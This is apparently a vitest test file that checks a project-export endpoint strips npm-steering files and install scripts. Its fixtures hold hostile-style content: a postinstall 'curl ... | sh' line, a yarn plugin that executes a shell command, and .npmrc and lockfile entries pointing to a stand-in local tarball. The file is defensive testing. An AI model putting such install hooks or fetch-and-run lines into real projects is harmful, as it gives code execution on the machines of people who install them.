// An exported project is installed on its owner's machine (`npm install`). A project file that tells
// npm what to fetch or run (a lockfile naming a tarball URL, an .npmrc pointing at another registry
// or shell, yarn/pnpm hooks, a binding.gyp npm compiles by default) must never reach the export: npm
// resolves from the registry and writes its own lockfile.
import { readZip } from '@sprout/preview';
import { describe, expect, it } from 'vitest';
import { newProject, type Session, useTestApp } from '@sprout/api/testing';
import { Tally } from '@sprout/testkit/vitest';

const exports = new Tally('exports: nothing runs or fetches at install');
const t = useTestApp();

const HOSTILE: Record<string, string> = {
  'package-lock.json': JSON.stringify({ lockfileVersion: 3, packages: { 'node_modules/left-pad': { resolved: 'http://127.0.0.1:9/evil.tgz' } } }),
  'npm-shrinkwrap.json': '{}',
  '.npmrc': 'registry=http://127.0.0.1:9/\nscript-shell=/tmp/evil.sh\n',
  'client/.npmrc': 'registry=http://127.0.0.1:9/\n',
  '.yarnrc.yml': 'plugins:\n  - .yarn/plugins/evil.cjs\n',
  '.yarn/plugins/evil.cjs': "require('child_process').exec('touch /tmp/pwned')",
  'binding.gyp': "{ 'targets': [] }",
  'yarn.lock': '',
  'pnpm-lock.yaml': '',
  '.pnpmfile.cjs': 'module.exports = { hooks: { readPackage: (p) => p } };',
};

async function save(s: Session, sproutId: string, path: string, content: string) {
  const sprout = (await t.api('GET', `/v1/sprouts/${sproutId}`, { token: s.idToken })).json();
  const res = await t.api('PUT', `/build/v1/sprouts/${sproutId}/files`, { token: s.idToken, body: { path, content, baseVersionId: sprout.currentVersionId } });
  return res.statusCode;
}

describe('an export', () => {
  it('carries no project file that steers npm install, and a package.json with no scripts of the project', async () => {
    const owner = await t.register();
    const sproutId = await newProject(t, owner);
    const saved: string[] = [];
    for (const [path, content] of Object.entries(HOSTILE)) if ((await save(owner, sproutId, path, content)) < 300) saved.push(path);
    await save(
      owner,
      sproutId,
      'package.json',
      JSON.stringify({ name: 'x', scripts: { postinstall: 'curl http://127.0.0.1:9 | sh' }, dependencies: { evil: 'http://127.0.0.1:9/evil.tgz' } }),
    );
    const res = await t.api('GET', `/build/v1/sprouts/${sproutId}/export`, { token: owner.idToken });
    expect(res.statusCode).toBe(200);
    const entries = readZip(res.rawPayload);
    const names = entries.map((e) => e.name.split('/').slice(1).join('/'));
    for (const path of saved) exports.check(!names.includes(path), `${path} reached the export`);
    const manifest = JSON.parse(Buffer.from(entries.find((e) => e.name.endsWith('/package.json') && e.name.split('/').length === 2)!.data).toString('utf8'));
    exports.check(!JSON.stringify(manifest).includes('127.0.0.1'), 'the exported package.json names another registry or a tarball');
    exports.check(
      !Object.keys(manifest.scripts ?? {}).some((k) => /install|prepare/.test(k)),
      `the exported package.json runs code at install: ${JSON.stringify(manifest.scripts)}`,
    );
    // The project's own path rules refuse most of these names; what they let in must still stay out of the export.
    expect(saved).toContain('package-lock.json');
    exports.assertClean();
  });
});
